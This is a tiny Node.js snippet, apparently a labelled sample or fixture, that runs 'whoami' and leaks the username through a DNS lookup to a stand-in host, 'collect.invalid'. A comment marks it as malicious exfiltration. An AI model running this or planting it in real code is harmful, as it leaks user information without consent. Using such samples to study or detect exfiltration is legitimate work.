const { execSync } = require("child_process");
const dns = require("dns");

const who = execSync("whoami").toString().trim();
dns.lookup(`${who}.collect.invalid`, () => {}); // malice: exfiltration
